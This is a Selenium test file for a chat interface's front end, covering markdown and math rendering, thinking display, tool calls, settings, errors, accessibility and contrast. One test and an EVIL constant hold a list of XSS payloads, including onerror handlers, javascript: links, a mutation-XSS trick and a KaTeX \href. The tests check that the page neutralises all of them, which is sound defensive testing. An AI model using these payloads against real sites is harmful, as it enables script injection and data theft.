"""What the page does with answers, made up here so that they are the same each time: the server's own are in
test_live.py."""
import json
import time

import pytest
from selenium.webdriver.common.keys import Keys

TIMINGS = {"cache_n": 12, "prompt_n": 30, "prompt_ms": 400.0, "predicted_n": 50, "predicted_ms": 2500.0,
           "predicted_per_second": 20.0, "queue_ms": 100.0, "stall_ms": 500.0, "thinking_n": 20, "thinking_ms": 1000.0}


def content(text, size=7, **more):
    """An answer whose text comes in small pieces."""
    return {"pieces": [["content", text[i:i + size]] for i in range(0, len(text), size)], "timings": TIMINGS, **more}


def show(page, text, **more):
    browser = page([content(text, **more)])
    browser.ask("a question")
    browser.wait_until_answered()
    return browser


def html(browser):
    return browser.run("return document.querySelector('.answer > .text').innerHTML")


def test_markdown_formulas_and_code(page):
    browser = show(page, """# A heading

Some *weight* and **more**, `code`, a [link](https://example.org/a?b=1&c=2).

| a | b |
|---|--:|
| 1 | 2 |

- [x] done
- [ ] to do

Water is H<sub>2</sub>O, <b onclick="x()">not</b> &amp; `<div>` <hr>

Inline $x^2$ and \\(\\frac{a}{b}\\), for $5 and $10 it is money.

\\[
\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}
\\]

$$
\\boxed{42}
$$

```python
def is_leap(year):
\treturn year % 4 == 0  # nearly
```

1. one
2. two
   - below
""")
    for selector, text in ((".text h1", "A heading"), (".text em", "weight"), (".text strong", "more"),
                           (".text td:last-child", "2"), (".code .hljs-keyword", "return"),
                           (".code .hljs-comment", "# nearly"), (".code-head span", "python"), ("ol ul li", "below")):
        assert browser.text(f".answer {selector}") == text, html(browser)
    assert len(browser.find_all(".answer math")) == 4, html(browser)
    assert len(browser.find_all(".answer math[display=block]")) == 2
    assert "\\frac" not in browser.text(".answer > .text")
    style = "return getComputedStyle(document.querySelector(arguments[0]))[arguments[1]]"
    assert browser.run(style, ".answer td:last-child", "textAlign") == "right"
    assert browser.run(style, ".answer menclose", "borderTopWidth") == "1px", "Chromium does not draw menclose by itself"
    assert browser.run("return document.querySelector('.answer ul').innerText").split("\n") == ["\u2611 done", "\u2610 to do"]
    assert "for $5 and $10 it is money" in browser.text(".answer > .text")
    assert browser.text(".answer sub") == "2"
    assert 'Water is H2O, <b onclick="x()">not & <div>' in browser.text(".answer > .text")
    link = browser.find(".answer .text a")
    assert link.get_attribute("href") == "https://example.org/a?b=1&c=2"
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert browser.complaints() == []


def test_a_hostile_answer_does_nothing(page):
    evil = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">
<svg onload="window.hacked=3"><animate onbegin="window.hacked=4" attributeName=x></svg>

<a href="javascript:window.hacked=5" id="first">click</a> [me](javascript:window.hacked=6) [data](data:text/html,x)
![leak](https://example.org/leak?what=secret)
<iframe srcdoc="<script>parent.hacked=7</script>"></iframe><form action="https://example.org"><input name=composer><button>x</button></form>
<style>body { display: none }</style><p style="position:fixed;inset:0" class="skip composer" id="composer">over all</p>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=8&gt;">

$\\href{javascript:window.hacked=9}{x}$ $\\includegraphics{https://example.org/x.png}$ $\\htmlClass{skip}{x}$

```html"><img src=x onerror=window.hacked=10>
<img src=x onerror="window.hacked=11">
```

<div><details open ontoggle="window.hacked=12">x</details><base href="https://example.org/"><meta http-equiv=refresh content="0;url=https://example.org/">
"""
    for size in (5, 100000):
        browser = page([{**content(evil, size), "fields": {}}])
        browser.ask("<img src=x onerror='window.hacked=13'>")
        browser.wait_until_answered()
        for link in browser.find_all(".answer .text a"):
            assert not (link.get_attribute("href") or "").startswith(("javascript:", "data:"))
            browser.run("arguments[0].click()", link)
        time.sleep(0.1)
        assert browser.run("return window.hacked ?? null") is None, html(browser)
        found = browser.run("""
            const bad = "script,img,svg,iframe,form,input,style,base,meta,object,embed,link,video,audio,[id],[style],[name]";
            const all = [...document.querySelectorAll(".answer > .text *")];
            return [...document.querySelectorAll(".answer > .text :is(" + bad + ")")].map(e => e.outerHTML).concat(
                all.flatMap(e => [...e.attributes]).filter(a => a.name.startsWith("on")).map(a => a.name + "=" + a.value));
        """)
        assert found == [], html(browser)
        assert browser.is_shown("#composer") and browser.text(".question .text").startswith("<img")
        assert browser.complaints() == []
        assert browser.driver.current_url.rstrip("/").endswith(browser.run("return location.origin"))


def test_thoughts_fold_and_times_are_told(page):
    browser = page([{"pieces": [["reasoning_content", "I think. "]] * 20 + [["content", "\n\n"]] + [["content", "Yes. "]] * 30,
                     "gapMs": 15, "timings": TIMINGS}])
    browser.ask("Is it?")
    browser.wait(lambda: browser.text(".thoughts .title").startswith("Thinking"))
    assert browser.run("return document.querySelector('.thoughts').open")
    assert browser.find(".answer").get_attribute("aria-busy") == "true"
    browser.wait_until_answered()
    assert not browser.run("return document.querySelector('.thoughts').open"), "folded once the answer comes"
    assert browser.text(".thoughts .title") == "Thought for 1.0 s"
    assert browser.text(".thoughts .count") == "20 tokens"
    assert browser.text(".answer > .text").strip() == "Yes. " * 29 + "Yes."
    assert browser.text(".times .speed") == "20.0 tokens a second, 3.0 s in all"
    browser.find(".times summary").click()
    rows = browser.run("return [...document.querySelectorAll('.times dt, .times dd')].map(cell => cell.textContent)")
    assert rows == ["queued", "100 ms", "waiting for a place", "prefill", "400 ms", "reading 30 tokens, 12 more from the cache",
                    "decode", "2.0 s", "writing 50 tokens", "stalled", "500 ms", "letting others go first"]
    assert browser.text("#announcer") == "The answer is complete."
    browser.find(".thoughts summary").click()
    assert browser.find(".thoughts .text").text.startswith("I think.")
    assert browser.complaints() == []


ENDLESS = {"pieces": [["reasoning_content", "I think. "]] * 3000 + [["content", "Yes. "]] * 3, "gapMs": 15}


def is_sought(browser):
    """The button can be seen and pressed."""
    return browser.is_shown(".thought-control button") and browser.text(".thought-control button") == "End the thought"


@pytest.mark.parametrize("how", [{}, {"dark": True, "width": 375, "height": 700}], ids=["wide and light", "phone and dark"])
def test_a_thought_is_ended(page, how):
    browser = page([{**ENDLESS, "controlMs": 500, "timings": {**TIMINGS, "thinking_end": "asked"}}], **how)
    browser.ask("Is it?")
    browser.wait(lambda: is_sought(browser))
    assert browser.run("return window.requests.at(-1).body.reasoning_control") is True
    assert browser.widest() == 0
    box, bottom, composer = browser.run("const rect = name => document.querySelector(name).getBoundingClientRect();"
                                        "return [rect('.thought-control button'), rect('.thought-control').bottom, rect('#composer').top]")
    assert min(box["width"], box["height"]) >= 36, "big enough for a thumb"
    assert bottom <= composer, "in sight, above the field"
    browser.press(Keys.SHIFT, Keys.TAB)  # from the field backwards it comes first
    assert browser.run("return document.activeElement.textContent") == "End the thought"
    assert browser.run("return getComputedStyle(document.activeElement).outlineStyle") != "none"
    browser.press(Keys.ENTER)
    browser.wait(lambda: browser.text(".thought-control button") == "Ending the thought\u2026")
    browser.press(Keys.ENTER)  # nothing more
    browser.wait_until_answered()
    assert not browser.is_shown(".thought-control")
    assert browser.run("return window.controls.map(control => control.body)") == [{"id": "chatcmpl-1", "action": "reasoning_end"}]
    assert browser.text(".answer > .text").strip() == "Yes. Yes. Yes."
    assert browser.text(".thoughts .count") == "20 tokens, ended by you"
    assert browser.focused() == "question", "who ended it by keyboard can type on"
    assert browser.complaints() == []


def test_a_thought_that_cannot_be_ended(page):
    """What the server says stands beside the button, which can be pressed again."""
    browser = page([{**ENDLESS, "control": {"success": False, "message": "no thought is running"}}])
    browser.ask("Is it?")
    browser.wait(lambda: is_sought(browser))
    browser.click_moving(".thought-control button")
    browser.wait(lambda: browser.text(".thought-control .trouble") == "It cannot be ended: no thought is running.")
    assert is_sought(browser)
    browser.run("window.running.control = {status: 503, message: 'try again soon'}")
    browser.click_moving(".thought-control button")
    browser.wait(lambda: "try again soon" in browser.text(".thought-control .trouble"))
    browser.run("window.running.control = {success: true, message: ''}")
    browser.click_moving(".thought-control button")
    browser.wait_until_answered()
    assert not browser.is_shown(".thought-control") and not browser.text(".thought-control .trouble")
    assert browser.complaints() == []


def test_where_there_is_no_thought_to_end(page):
    browser = page([content("Yes. " * 400, gapMs=10)])
    browser.ask("Is it?")
    browser.wait(lambda: "Yes." in browser.text(".answer > .text"))
    assert not browser.is_shown(".thought-control")
    browser = page([ENDLESS])
    browser.ask("Is it?")
    browser.wait(lambda: is_sought(browser))
    browser.press(Keys.ESCAPE)
    browser.wait_until_answered()
    assert not browser.is_shown(".thought-control")


@pytest.mark.parametrize("end, words", [("loop", "20 tokens, closed, as it went in circles"), ("model", "20 tokens"),
                                        ("reserve", "20 tokens, closed to leave room for the answer")])
def test_what_ended_a_thought_is_told(page, end, words):
    browser = page([{"pieces": [["reasoning_content", "I think. "], ["content", "Yes."]], "timings": {**TIMINGS, "thinking_end": end}}])
    browser.ask("Is it?")
    browser.wait_until_answered()
    assert browser.text(".thoughts .count") == words


def test_stop_ask_again_reload_and_new_chat(page):
    browser = page([content("one two three four five " * 200, gapMs=10), content("The second answer.")])
    browser.ask("Count")
    browser.wait(lambda: "three" in browser.text(".answer > .text"))
    browser.press(Keys.ESCAPE)
    browser.wait_until_answered()
    assert browser.text(".answer .note") == "Stopped."
    stopped = browser.text(".answer > .text").strip()
    assert 10 < len(stopped) < 4000
    assert browser.focused() == "question"
    assert "about" in browser.text(".answer .speed")

    browser.driver.refresh()
    browser.wait(lambda: browser.text(".answer > .text").strip() == stopped)
    browser.run("window.answers.shift()")
    browser.find(".answer .retry").click()
    browser.wait(lambda: browser.text(".answer > .text").strip() == "The second answer.")
    browser.wait_until_answered()
    assert len(browser.find_all(".answer")) == 1 and len(browser.find_all(".question")) == 1
    browser.ask("And then?")
    browser.wait(lambda: len(browser.find_all(".answer .foot:not([hidden])")) == 2)
    assert browser.run("return window.requests.at(-1).body.messages") == [
        {"role": "user", "content": "Count"}, {"role": "assistant", "content": "The second answer."},
        {"role": "user", "content": "And then?"}]

    browser.press(Keys.ALT, "n")
    browser.wait(lambda: not browser.find_all(".message"))
    assert browser.is_shown("#welcome") and browser.focused() == "question"
    browser.find("#notice button").click()
    assert len(browser.find_all(".answer")) == 2
    browser.find("#new-chat").click()
    browser.driver.refresh()
    browser.wait(lambda: browser.is_shown("#welcome"))
    assert not browser.find_all(".message")
    assert browser.run("return localStorage.getItem('runnel.conversation')") is None


def test_keyboard_alone(page):
    browser = page([content("Fine.")])
    assert browser.focused() == "question", "one can type at once"
    browser.press("line one", Keys.SHIFT, Keys.ENTER)
    browser.press("line two")
    assert browser.find("#question").get_attribute("value") == "line one\nline two"
    assert not browser.find_all(".message"), "Shift+Enter does not send"
    browser.press(Keys.ENTER)
    browser.wait_until_answered()
    assert browser.text(".question .text") == "line one\nline two"
    assert browser.find("#question").get_attribute("value") == ""
    browser.press(Keys.ENTER)
    assert len(browser.find_all(".question")) == 1, "nothing is not sent"
    browser.press(Keys.ALT, "s")
    assert browser.is_shown("#settings")
    browser.press(Keys.ESCAPE)
    assert not browser.is_shown("#settings")
    # Every control can be reached, has a name, and shows that it has the focus.
    seen = set()
    for _ in range(20):
        browser.press(Keys.TAB)
        name, outline = browser.run("""
            const at = document.activeElement;
            return [at.ariaLabel || at.labels?.[0]?.textContent || at.textContent.trim(), getComputedStyle(at).outlineStyle]""")
        if browser.run("return document.activeElement === document.body"):
            continue
        assert name and outline != "none", browser.run("return document.activeElement.outerHTML")
        seen.add(browser.focused())
    assert {"question", "tab-chat", "tab-dashboard", "new-chat", "theme", "open-settings"} <= seen


def test_every_script_runs_its_own_way(page):
    browser = show(page, "\u0645\u0631\u062d\u0628\u0627 \u0628\u0643.\n\nHello, \u4f60\u597d \U0001f600.")
    # How far the text of each paragraph stands from the paragraph's two borders.
    room = browser.run("""return [...document.querySelectorAll(".answer > .text p")].map(paragraph => {
        const range = document.createRange();
        range.selectNodeContents(paragraph);
        const [text, box] = [range.getBoundingClientRect(), paragraph.getBoundingClientRect()];
        return [text.left - box.left, box.right - text.right];
    })""")
    assert room[0][0] > 200 and room[0][1] < 2, "Arabic begins at the right"
    assert room[1][0] < 2 and room[1][1] > 200


def test_the_column_stands_above_the_composer(page):
    browser = show(page, "A line.\n\n" * 80)
    left, right = ("return arguments[0].map(name => document.querySelector(name).getBoundingClientRect())"
                   f".map(box => box.{side})" for side in ("left", "right"))
    for side in (left, right):
        answer, composer = browser.run(side, [".answer", "#composer"])
        assert abs(answer - composer) <= 1


def test_a_question_is_asked_otherwise(page):
    browser = page([content("One."), content("Two."), content("Three.")])
    browser.ask("First?")
    browser.wait_until_answered()
    browser.ask("Secnod?")
    browser.wait(lambda: len(browser.find_all(".answer .foot:not([hidden])")) == 2)
    for take_back in (True, False):
        browser.find("#question").send_keys("a draft")
        browser.run("document.querySelectorAll('.question .edit')[1].focus()")
        browser.press(Keys.ENTER)
        assert browser.find("#question").get_attribute("value") == "Secnod?" and browser.focused() == "question"
        assert len(browser.find_all(".question")) == 1 and len(browser.find_all(".answer")) == 1
        if take_back:
            browser.find("#notice button").click()
            assert len(browser.find_all(".answer")) == 2
            assert browser.find("#question").get_attribute("value") == "a draft"
            browser.run("document.querySelector('#question').value = ''")
    browser.press(Keys.CONTROL, "a")
    browser.press(Keys.CONTROL, Keys.NULL, "Second?", Keys.ENTER)
    browser.wait(lambda: len(browser.find_all(".answer .foot:not([hidden])")) == 2)
    assert not browser.is_shown("#notice")
    assert [message["content"] for message in browser.run("return window.requests.at(-1).body.messages")] == \
        ["First?", "One.", "Second?"]


def test_settings_that_are_out_of_bounds(page):
    browser = page([content("Fine.")])
    browser.find("#open-settings").click()
    browser.find("[name=temperature]").send_keys("9")
    browser.find("[name=max_tokens]").send_keys("50")
    browser.find("#settings .primary").click()
    assert browser.is_shown("#settings") and browser.focused() == "", "the field is pointed at"
    assert browser.run("return document.activeElement.name") == "temperature"
    browser.find("#settings .close").click()
    assert not browser.is_shown("#settings")
    browser.ask("Hello")
    browser.wait_until_answered()
    body = browser.run("return window.requests.at(-1).body")
    assert "temperature" not in body and body["max_tokens"] == 50


def test_settings_reach_the_request(page):
    browser = page([content("Fine.")])
    browser.find("#open-settings").click()
    for name, value in (("system", "Be brief."), ("temperature", "0.3"), ("top_p", "0.9"), ("max_tokens", "77"),
                        ("thinking_budget_tokens", "33"), ("key", "secret-key")):
        browser.find(f"[name={name}]").send_keys(value)
    browser.find("[name=thinking]").click()
    browser.find("#settings .primary").click()
    browser.driver.refresh()  # kept
    browser.ask("Hello")
    browser.wait_until_answered()
    request = browser.run("return window.requests.at(-1)")
    assert request["headers"]["Authorization"] == "Bearer secret-key"
    body = request["body"]
    assert body["messages"] == [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "Hello"}]
    assert (body["temperature"], body["top_p"], body["max_tokens"], body["thinking_budget_tokens"]) == (0.3, 0.9, 77, 33)
    assert body["chat_template_kwargs"] == {"enable_thinking": False} and body["stream"] is True
    assert "secret-key" not in browser.run("return JSON.stringify(localStorage)")

    browser.find("#open-settings").click()
    browser.find("#reset-settings").click()
    browser.find("#settings .primary").click()
    browser.ask("Again")
    browser.wait(lambda: browser.run("return window.requests.length") == 2)
    assert set(browser.run("return window.requests.at(-1).body")) == {"messages", "stream", "stream_options", "reasoning_control"}


TOOLS = [{"name": "get_weather", "parameters": {"type": "object", "properties": {"city": {"type": "string"}}}}]
EVIL = "<img src=x onerror='window.hacked = 1'>"


def call(index, name, arguments, size=5):
    """The pieces of a call, as the server streams it."""
    pieces = [arguments[i:i + size] for i in range(0, len(arguments), size)]
    return [["tool_calls", [{"index": index, "id": f"call_{index}", "type": "function", "function": {"name": name, "arguments": ""}}]],
            *(["tool_calls", [{"index": index, "function": {"arguments": piece}}]] for piece in pieces)]


def enter(browser, **texts):
    browser.find("#open-settings").click()
    for name, text in texts.items():
        browser.run("const field = document.querySelector(arguments[0]); field.value = arguments[1];"
                    "field.dispatchEvent(new Event('input', {bubbles: true}))", f"[name={name}]", text)
    browser.find("#settings .primary").click()


def test_tools_and_a_shape_reach_the_request(page):
    browser = page([content("Fine.")])
    schema = {"type": "object", "properties": {"year": {"type": "integer"}}}
    enter(browser, tools=json.dumps(TOOLS), shape=json.dumps(schema))
    browser.driver.refresh()  # kept
    browser.ask("Hello")
    browser.wait_until_answered()
    body = browser.run("return window.requests.at(-1).body")
    assert body["tools"] == [{"type": "function", "function": TOOLS[0]}]
    assert body["response_format"] == {"type": "json_schema", "json_schema": {"name": "answer", "schema": schema}}
    enter(browser, tools=json.dumps([{"type": "function", "function": TOOLS[0]}]), shape="")
    browser.ask("Again")
    browser.wait(lambda: browser.run("return window.requests.length") == 2)
    body = browser.run("return window.requests.at(-1).body")
    assert body["tools"] == [{"type": "function", "function": TOOLS[0]}] and "response_format" not in body


def test_tools_that_are_none_are_said_to_be(page):
    browser = page([content("Fine.")])
    for name, text, words in (("tools", "[", "This is no JSON"), ("tools", "{}", "Expected a JSON list"), ("tools", '[{"name": 1}]', "Tool 1 has no name"),
                              ("tools", '[{"name": "f"}, {"type": "function", "function": null}]', "Tool 2 has no name"),
                              ("shape", "[1]", "Expected a JSON schema"), ("shape", "x", "This is no JSON")):
        enter(browser, **{name: text})
        assert browser.text(f"#{name}-trouble").startswith(words) and browser.is_shown(f"#{name}-trouble")
        assert browser.is_shown("#settings") and browser.run("return document.activeElement.name") == name
        border, trouble = browser.run("return arguments[0].map((name, i) => getComputedStyle(document.querySelector(name))[['borderTopColor', 'color'][i]])",
                                      [f"[name={name}]", f"#{name}-trouble"])
        assert border == trouble
        enter_nothing = "const field = document.querySelector(arguments[0]); field.value = ''; field.dispatchEvent(new Event('input', {bubbles: true}))"
        browser.run(enter_nothing, f"[name={name}]")
        assert not browser.is_shown(f"#{name}-trouble")
        browser.find("#settings .primary").click()
    browser.ask("Hello")
    browser.wait_until_answered()
    assert set(browser.run("return window.requests.at(-1).body")) == {"messages", "stream", "stream_options", "reasoning_control"}


def test_calls_are_folded_and_their_results_go_back(page):
    pieces = [["content", "Let me "], ["content", "look."], *call(0, "get_weather", '{"city": "K\u00f6ln"}'), *call(1, EVIL, '{"a": ' + json.dumps(EVIL))]
    browser = page([{"pieces": pieces, "timings": TIMINGS, "finishReason": "tool_calls"}, content("It rains."), content("It does not.")])
    browser.ask("The weather?")
    browser.wait_until_answered()
    assert browser.text(".answer > .text").strip() == "Let me look."
    assert [element.text for element in browser.find_all(".call .title")] == ["Calls get_weather", f"Calls {EVIL}"]
    assert browser.find(".call .brief").text == '{"city": "K\u00f6ln"}'
    assert not browser.is_shown(".call pre"), "folded"
    browser.find(".call summary").click()
    assert browser.find(".call pre").text == '{\n  "city": "K\u00f6ln"\n}'
    assert not browser.find_all(".note")
    browser.driver.refresh()  # kept
    assert len(browser.find_all(".results textarea")) == 2
    browser.run("window.answers.shift()")

    browser.find(".results button").click()
    assert browser.run("return window.requests.length") == 0, "each call wants a result"
    for field, text in zip(browser.find_all(".results textarea"), ('{"rain": true}', EVIL)):
        field.send_keys(text)
    browser.find(".results button").click()
    browser.wait(lambda: "It rains." in browser.text(".answer > .text"))
    browser.wait(lambda: browser.is_shown("#send"))
    assert browser.run("return document.activeElement.tagName") == "SUMMARY", "not lost with the button"
    question, said, *results = browser.run("return window.requests.at(-1).body.messages")
    assert question == {"role": "user", "content": "The weather?"}
    assert (said["role"], said["content"]) == ("assistant", "Let me look.")
    assert [(made["id"], made["type"], made["function"]) for made in said["tool_calls"]] == [
        ("call_0", "function", {"name": "get_weather", "arguments": '{"city": "K\u00f6ln"}'}),
        ("call_1", "function", {"name": EVIL, "arguments": '{"a": ' + json.dumps(EVIL)})]
    assert results == [{"role": "tool", "tool_call_id": "call_0", "content": '{"rain": true}'}, {"role": "tool", "tool_call_id": "call_1", "content": EVIL}]
    assert not browser.find_all(".results")
    assert browser.run("return [...document.querySelectorAll('.call .part-title')].map(part => part.textContent)") == ["Arguments", "Result"] * 2

    # The second answer again: the results stay.
    browser.find_all(".retry")[-1].click()
    browser.wait(lambda: "It does not." in browser.text(".answer > .text"))
    assert [message["role"] for message in browser.run("return window.requests.at(-1).body.messages")] == ["user", "assistant", "tool", "tool"]
    assert browser.run("return window.hacked ?? null") is None and not browser.find_all(".call img")
    assert browser.complaints() == []


def test_calls_on_a_phone_and_in_the_dark(page):
    long = json.dumps({"text": "word " * 200, "list": list(range(40))})
    for dark in (False, True):
        browser = page([{"pieces": call(0, "a_tool_with_a_rather_long_name_" * 3, long), "finishReason": "tool_calls"}], width=360, height=740, dark=dark)
        browser.ask("Hello")
        browser.wait_until_answered()
        browser.find(".call summary").click()
        assert browser.is_shown(".call pre") and browser.is_shown(".results") and browser.widest() <= 0
        size = browser.run("const box = document.querySelector('.call summary').getBoundingClientRect(); return box.height")
        assert size >= 44, "a finger's width"


def test_errors_are_told_kindly(page):
    busy = {"status": 429, "headers": {"Retry-After": "2"}, "message": "100 requests are being served"}
    browser = page([busy, {"status": 401, "message": "no key"}, {"status": 400, "message": "too long"},
                    content("Half an", lost=True), content("All is well.", finishReason="length")])
    began = time.monotonic()
    browser.ask("Hello")
    browser.wait(lambda: "Asking again in 2 s" in browser.text(".status"))
    assert "busy" in browser.text(".status")
    browser.wait(lambda: "API key" in browser.text(".note.error"))
    assert time.monotonic() - began >= 1.8, "not before Retry-After is over"
    browser.find("#notice button").click()
    assert browser.focused() == "" and browser.run("return document.activeElement.name") == "key"
    browser.press(Keys.ESCAPE)
    browser.find(".retry").click()
    browser.wait(lambda: "too long" in browser.text(".note.error"))
    browser.wait_until_answered()
    browser.find(".retry").click()
    browser.wait(lambda: "connection was lost" in browser.text(".note.error"))
    browser.wait_until_answered()
    assert browser.text(".answer > .text").strip() == "Half an", "what came stays"
    browser.find(".retry").click()
    browser.wait(lambda: "All is well." in browser.text(".answer > .text"))
    browser.wait_until_answered()
    assert browser.text(".note").startswith("Cut off")
    assert len(browser.find_all(".question")) == 1 and len(browser.find_all(".answer")) == 1
    assert browser.complaints() == []


def test_degradation_is_told(page):
    browser = page([content("Short.", fields={"degraded": "memory"})])
    browser.ask("Hello")
    browser.wait_until_answered()
    assert "kept shorter" in browser.text(".note.degraded")


def test_a_stopped_countdown_asks_no_more(page):
    browser = page([{"status": 503, "headers": {"Retry-After": "30"}}])
    browser.ask("Hello")
    browser.wait(lambda: "Asking again in" in browser.text(".status"))
    browser.press(Keys.ESCAPE)
    browser.wait_until_answered()
    assert browser.text(".note") == "Stopped."
    assert browser.run("return window.requests.length") == 1


def test_long_answers_stay_quick(page):
    """Twice the text takes about twice the time; rendering all of it for each piece would take four times as long."""
    paragraph = "Some words that fill a line, *with weight*, and `code`, and $x_i$. " * 4 + "\n\n"

    def render(n):
        browser = page([content(paragraph * n, size=24)])
        browser.run("""
            window.busy = 0;
            new PerformanceObserver(list => list.getEntries().forEach(entry => { window.busy += entry.duration; }))
                .observe({type: "longtask"});""")
        began = time.monotonic()
        browser.ask("Tell me all")
        browser.wait_until_answered(180)
        assert browser.run("return document.querySelectorAll('.answer > .text p').length") == n
        return time.monotonic() - began

    render(20)
    once, fourfold = render(100), render(400)
    assert fourfold < 9 * once + 2, (once, fourfold)


def test_a_phone_scrolls_in_one_direction_only(page):
    wide = "| " + " | ".join(f"column {i}" for i in range(12)) + " |\n|" + "---|" * 12 + "\n| " + "cell | " * 12 + \
        "\n\n```c\nint " + "a_long_name_" * 30 + " = 1;\n```\n\n$$" + "+".join(f"x_{{{i}}}" for i in range(60)) + "$$\n\n" + "w" * 400
    browser = page([content(wide)], width=375, height=700)
    browser.ask("Show me " + "w" * 200)
    browser.wait_until_answered()
    assert browser.widest() == 0
    assert browser.run("return document.querySelector('#messages').scrollWidth - document.querySelector('#messages').clientWidth") <= 0
    browser.find(".times summary").click()
    browser.find("#open-settings").click()
    assert browser.widest() == 0
    browser.press(Keys.ESCAPE)
    browser.find("#tab-dashboard").click()
    browser.wait(lambda: browser.text("#tile-running .value") == "0")
    assert browser.widest() == 0
    view = "document.querySelector('#view-dashboard')"
    assert browser.run(f"return {view}.scrollWidth - {view}.clientWidth") <= 0
    sizes = browser.run("return [...document.querySelectorAll('header button, #send')].map(b => b.getBoundingClientRect())"
                        ".filter(b => b.width).map(b => Math.min(b.width, b.height))")
    assert min(sizes) >= 36, "big enough for a thumb"


def test_colours(page):
    ground = "return getComputedStyle(document.body).backgroundColor"
    light = page().run(ground)
    browser = page(dark=True)
    dark = browser.run(ground)
    assert light != dark
    browser.find("#theme").click()  # light, whatever the system has
    assert browser.run(ground) == light
    browser.driver.refresh()
    assert browser.run(ground) == light, "kept"
    browser.find("#theme").click()
    assert browser.run(ground) == dark
    browser.find("#theme").click()
    assert browser.run("return localStorage.getItem('runnel.theme')") is None


def test_contrast(page):
    """Text against what is behind it: 4.5 to 1, as WCAG AA asks for."""
    for dark in (False, True):
        browser = show(lambda answers: page(answers, dark=dark),
                       "Text, `code`\n\n> quoted\n\n```python\ndef f(): return 'x' # 1\n```", fields={"choices": [{
                           "delta": {"tool_calls": call(0, "f", '{"a": 1}', 100)[0][1]}, "finish_reason": "tool_calls"}]})
        browser.run("document.querySelector('.call').open = true")
        poor = browser.run("""
            const parse = text => text.match(/[\\d.]+/g).map(Number);
            const light = ([r, g, b]) => [r, g, b].map(c => c / 255).map(c => c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4)
                .reduce((sum, c, i) => sum + c * [0.2126, 0.7152, 0.0722][i], 0);
            const ground = element => {
                for (let at = element; at; at = at.parentElement) {
                    const color = parse(getComputedStyle(at).backgroundColor);
                    if (color.length < 4 || color[3] > 0)
                        return color;
                }
                return [255, 255, 255];
            };
            return [...document.querySelectorAll("body *")].filter(e => e.checkVisibility() && !e.disabled &&
                [...e.childNodes].some(n => n.nodeType === 3 && n.data.trim())).map(e => {
                const [a, b] = [light(parse(getComputedStyle(e).color)), light(ground(e))].sort((x, y) => y - x);
                return [(a + 0.05) / (b + 0.05), e.className, e.textContent.trim().slice(0, 30)];
            }).filter(([ratio]) => ratio < 4.5);
        """)
        assert poor == [], json.dumps(poor)
